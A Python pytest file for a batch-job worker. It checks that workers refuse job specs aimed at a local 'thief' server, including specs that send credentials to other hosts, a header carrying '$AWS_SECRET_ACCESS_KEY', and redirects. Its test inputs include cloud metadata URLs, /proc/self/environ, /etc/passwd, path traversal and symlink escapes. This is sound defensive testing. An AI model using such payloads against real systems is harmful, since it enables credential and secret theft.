"""Whoever submits gains nothing by it: no credential, no URL and no file that a worker has.

Each test has a thief: a server that would be glad of what a job tries to bring to it.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager, suppress
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from batcher.core.job.spec import JobSpec
from batcher.engine.opening.firing import order_id
from batcher.engine.opening.orders import OrderFailed
from batcher.ports import Blueprint, Event, OrderState
from tests.engine.fleet.crew import Events, completed, worker
from tests.engine.virtual_time import in_virtual_time
from tests.engine.workbench import Work, open_work, words

KEY = "the-key-of-the-worker-0123456789"
SECRET = "another-secret-of-the-worker-9876543210"
WAIT_SECONDS = 300.0


class Thief:
    """A web server that keeps what it is sent."""

    def __init__(self) -> None:
        self.url = ""
        self.got: list[str] = []

    async def answer(self, request: web.Request) -> web.Response:
        self.got.append(f"{request.method} {request.path_qs} {dict(request.headers)}")
        return web.Response(text="id,text\n1,a\n")


@asynccontextmanager
async def server(answer: Any) -> AsyncIterator[str]:
    """A web server on this machine; yields where it is."""
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    try:
        await web.TCPSite(runner, "127.0.0.1", 0).start()
        yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    finally:
        await runner.cleanup()


@asynccontextmanager
async def beside_a_thief(tmp_path: Path) -> AsyncIterator[tuple[Work, Thief]]:
    """A fleet's database, the provider of its operator, which is called mine, and a thief."""
    thief = Thief()
    async with (
        server(thief.answer) as thief.url,
        open_work(tmp_path, database=f"sqlite:///{tmp_path}/batcher.db") as work,
    ):
        configure(tmp_path, work.simulator.base_url)
        yield work, thief


def configure(tmp_path: Path, base_url: str) -> None:
    (tmp_path / "batcher.toml").write_text(
        f'[providers.mine]\nbase_url = "{base_url}"\napi_key_env = "MY_KEY"\n'
    )


@pytest.fixture(autouse=True)
def environment(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in ("BATCHER_BASE_URL", "OPENAI_BASE_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("MY_KEY", KEY)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.chdir(tmp_path)


def hostile(work: Work, thief: Thief) -> dict[str, JobSpec]:
    """Jobs that would bring something of the worker's somewhere."""
    spec = work.chat(list(words(3)), api_key_env="MY_KEY")
    steal = {"X-Stolen": "$AWS_SECRET_ACCESS_KEY"}
    return {
        "another place": replace(spec, base_url=thief.url),
        "another place, another variable": replace(
            spec, base_url=thief.url, api_key_env="AWS_SECRET_ACCESS_KEY"
        ),
        "another place, a header": replace(
            spec, base_url=thief.url, api_key_env="NONE", headers=steal
        ),
        "another place, no credential": replace(spec, base_url=thief.url, api_key_env="NONE"),
        "the worker's provider, a header": replace(spec, headers=steal),
        "the worker's provider, another variable": replace(
            spec, api_key_env="AWS_SECRET_ACCESS_KEY"
        ),
        "the worker's provider, another host": replace(spec, headers={"Host": "thief.example"}),
        "a link-local address": replace(
            spec, base_url="http://169.254.169.254/latest", api_key_env="NONE"
        ),
    }


@in_virtual_time
async def test_no_job_sends_a_credential_of_the_workers_anywhere(tmp_path: Path) -> None:
    async with beside_a_thief(tmp_path) as (work, thief):
        jobs = {}
        for what, spec in hostile(work, thief).items():
            jobs[what] = (await work.runner.submit(spec, fresh=True)).job
        events = Events()
        async with worker(f"sqlite:///{tmp_path}/batcher.db", events, providers=("mine",)):
            await asyncio.sleep(WAIT_SECONDS)
        assert thief.got == []
        assert work.stats.requests == 0
        reasons = {facts["job"]: str(facts["reason"]) for facts in events.of(Event.JOB_REFUSED)}
        for what, job in jobs.items():
            assert (await work.runner.status(job)).status == "open", what
            assert "it asks for" in reasons[job], what
        assert KEY not in str(events.told)
        assert SECRET not in str(events.told)


@in_virtual_time
async def test_a_name_means_what_it_means_to_the_worker(tmp_path: Path) -> None:
    """Whoever submits may call any place so, with his own configuration."""
    async with beside_a_thief(tmp_path) as (work, thief):
        configure(tmp_path, thief.url)
        report = await work.runner.submit(
            work.chat(list(words(3)), base_url="https://api.openai.com/v1", provider="mine")
        )
        configure(tmp_path, work.simulator.base_url)
        events = Events()
        async with worker(f"sqlite:///{tmp_path}/batcher.db", events, providers=("mine",)):
            await asyncio.sleep(WAIT_SECONDS)
        assert thief.got == []
        assert (await work.runner.status(report.job)).status == "open"
        (first, *_) = events.of(Event.JOB_REFUSED)
        assert "its provider mine was at" in str(first["reason"])


@in_virtual_time
async def test_a_provider_that_redirects_takes_no_credential_along(tmp_path: Path) -> None:
    async with beside_a_thief(tmp_path) as (work, thief):

        async def elsewhere(request: web.Request) -> web.Response:
            raise web.HTTPTemporaryRedirect(f"{thief.url}{request.path}")

        async with server(elsewhere) as mine:
            configure(tmp_path, mine)
            report = await work.runner.submit(
                work.chat(list(words(3)), base_url=mine, api_key_env="MY_KEY")
            )
            async with worker(f"sqlite:///{tmp_path}/batcher.db", providers=("mine",)):
                await asyncio.sleep(WAIT_SECONDS)
        assert thief.got == []
        assert (await work.runner.status(report.job)).rows_done == 0


@in_virtual_time
async def test_a_job_is_left_to_a_worker_that_has_its_provider(tmp_path: Path) -> None:
    async with beside_a_thief(tmp_path) as (work, _):
        spec = work.chat(
            list(words(30)), base_url="https://api.openai.com/v1", provider="mine", rpm=6000
        )
        report = await work.runner.submit(spec)
        database, events = f"sqlite:///{tmp_path}/batcher.db", Events()
        async with worker(database, events, providers=("default",)):
            await asyncio.sleep(10)
            assert work.stats.requests == 0
            async with worker(database, providers=("mine",)):
                ran = await completed(work, report.job)
        assert ran.done == list(range(30))
        (refused,) = events.of(Event.JOB_REFUSED)
        assert refused["reason"] == ("it asks for the provider mine, and this worker has default")


# --- inputs -----------------------------------------------------------------------------------


@pytest.fixture
def allowed(tmp_path: Path) -> Path:
    """A folder of inputs that the worker may read, beside a secret that it may not."""
    folder = tmp_path / "allowed"
    folder.mkdir()
    rows = '{"id": 1, "text": "a"}\n'
    for path in (folder / "in.jsonl", tmp_path / "secret.jsonl"):
        path.write_text(rows)
    (folder / "link.jsonl").symlink_to(tmp_path / "secret.jsonl")
    (folder / "up").symlink_to(tmp_path)
    (folder / ".hidden.jsonl").write_text(rows)
    return folder


@pytest.mark.parametrize(
    "address",
    [
        "secret.jsonl", "allowed/../secret.jsonl", "allowed/link.jsonl", "allowed/up/secret.jsonl",
        "allowed/.hidden.jsonl", "/proc/self/environ", "/etc/passwd", "-", "batcher.db",
        "THIEF/in.jsonl", "http://169.254.169.254/latest/meta-data", "http://[::1]/in.jsonl",
        "https://data.example/in.jsonl", "ALLOWED/go?to=THIEF/in.jsonl",
    ],
)  # fmt: skip
@in_virtual_time
async def test_no_order_reads_what_the_operator_did_not_allow(
    tmp_path: Path, allowed: Path, address: str
) -> None:
    async with beside_a_thief(tmp_path) as (work, thief):

        async def redirect(request: web.Request) -> web.Response:
            raise web.HTTPFound(request.query["to"])

        async with server(redirect) as place:
            address = address.replace("THIEF", thief.url).replace("ALLOWED", place)
            spec = replace(work.embed("none.jsonl"), input=address, format="jsonl")
            asked = order_id()
            await work.runner._services.store.place_order(
                asked, Blueprint(spec=spec.to_json()), fresh=False
            )
            events = Events()
            async with worker(
                f"sqlite:///{tmp_path}/batcher.db",
                events,
                allow_source=(str(allowed), f"{place}/go"),
            ):
                await asyncio.sleep(WAIT_SECONDS)
        order = await work.runner._services.store.order(asked)
        assert (order.state, order.job_id) == (OrderState.WAITING, None)
        assert "this worker may not" in str(order.error)
        assert thief.got == []
        assert await work.runner.jobs() == []
        told = events.of(Event.ORDER_REFUSED)
        assert {facts["reason"] for facts in told} == {order.error}
        assert 2 <= len(told) <= 1 + WAIT_SECONDS / 60  # it is not looked at all the time
        assert order.forgiven == len(told)  # others have all of their tries


@in_virtual_time
async def test_an_order_is_left_to_a_worker_that_may_read_its_input(
    tmp_path: Path, allowed: Path
) -> None:
    async with beside_a_thief(tmp_path) as (work, _):
        spec = work.embed(str(allowed / "in.jsonl"), api_key_env="MY_KEY")
        database, reasons = f"sqlite:///{tmp_path}/batcher.db", list[str]()
        async with worker(database, providers=("mine",)):
            asking = asyncio.create_task(work.runner.ask(spec, on_refused=reasons.append))
            await asyncio.sleep(700)  # as often as any order may be tried in vain
            assert not asking.done()
            async with worker(database, providers=("mine",), allow_source=(str(allowed),)):
                ran = await completed(work, (await asking).job)
        assert ran.done == [0]
        assert set(reasons) == {
            f"this worker may not read {allowed / 'in.jsonl'}: --allow-source would allow it"
        }


@in_virtual_time
async def test_no_option_makes_a_worker_read_a_file(tmp_path: Path, allowed: Path) -> None:
    """Whoever submits sends the texts along; where they are missing they are not looked for."""
    async with beside_a_thief(tmp_path) as (work, _):
        (tmp_path / "labels.txt").write_text("red\ngreen\n")
        spec = JobSpec(
            kind="classify", input=str(allowed / "in.jsonl"), model="gpt-4o",
            base_url=work.simulator.base_url, api_key_env="MY_KEY",
            options={"text": "text", "labels_file": str(tmp_path / "labels.txt")},
        )  # fmt: skip
        asked = order_id()
        await work.runner._services.store.place_order(
            asked, Blueprint(spec=spec.to_json()), fresh=False
        )
        async with worker(f"sqlite:///{tmp_path}/batcher.db", allow_source=(str(allowed),)):
            await asyncio.sleep(WAIT_SECONDS)
        order = await work.runner._services.store.order(asked)
        assert (order.state, order.job_id) == (OrderState.FAILED, None)
        assert "labels-file" in str(order.error)


@in_virtual_time
async def test_on_one_machine_a_worker_that_was_told_nothing_does_what_it_is_told(
    tmp_path: Path, allowed: Path
) -> None:
    async with beside_a_thief(tmp_path) as (work, thief):
        spec = work.embed(str(tmp_path / "secret.jsonl"), base_url=thief.url)
        async with worker(f"sqlite:///{tmp_path}/batcher.db"):
            with suppress(OrderFailed):
                await work.runner.ask(spec)
            await asyncio.sleep(30)
        assert thief.got
